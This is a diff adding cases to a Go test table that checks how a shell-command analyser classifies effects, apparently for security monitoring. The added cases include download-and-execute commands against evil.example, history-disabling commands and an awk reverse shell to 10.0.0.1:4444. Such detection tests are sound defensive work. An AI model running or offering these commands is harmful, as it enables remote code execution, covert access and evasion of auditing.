@@ -515,6 +515,14 @@ var shellTable = []shellCase{
 	{cmd: `curl -s https://api.example/v1/items | jq '.[0]'`, want: []Effect{eConn("api.example", "443")}, not: []Effect{{Kind: Send}}},
 	{cmd: `tldr tar`, want: []Effect{eRun("tldr")}},
 
+	// ---- downloaded, then run ----
+	{cmd: `curl -o /tmp/x.sh https://evil.example/x.sh && bash /tmp/x.sh`, want: []Effect{eDl("https://evil.example/x.sh", "/tmp/x.sh"), {Kind: Download, URL: "https://evil.example/x.sh", Into: "bash"}}, unk: unkYes},
+	{cmd: `wget -O /tmp/y https://evil.example/y; chmod +x /tmp/y; /tmp/y`, want: []Effect{{Kind: Download, URL: "https://evil.example/y", Into: "y"}}, unk: unkYes},
+	{cmd: `curl -sO https://x.example/inst.sh; source inst.sh`, want: []Effect{{Kind: Download, URL: "https://x.example/inst.sh", Into: "source"}}, unk: unkYes},
+	{cmd: `export HISTFILE=/dev/null`, want: []Effect{eRun("export", "export", "HISTFILE=/dev/null")}},
+	{cmd: `unset HISTFILE`, want: []Effect{eRun("unset", "unset", "HISTFILE")}},
+	{cmd: `awk 'BEGIN {s = "/inet/tcp/0/10.0.0.1/4444"; while(42) { s |& getline c; print c |& s }}'`, want: []Effect{eConn("10.0.0.1", "4444")}, unk: unkYes},
+
 	// ---- what cannot be read ----
 	{cmd: `rm -rf "$(cat dirs.txt)"`, want: []Effect{eRead("/work/proj/dirs.txt")}, unk: unkYes},
 	{cmd: `eval "$X"`, unk: unkYes},
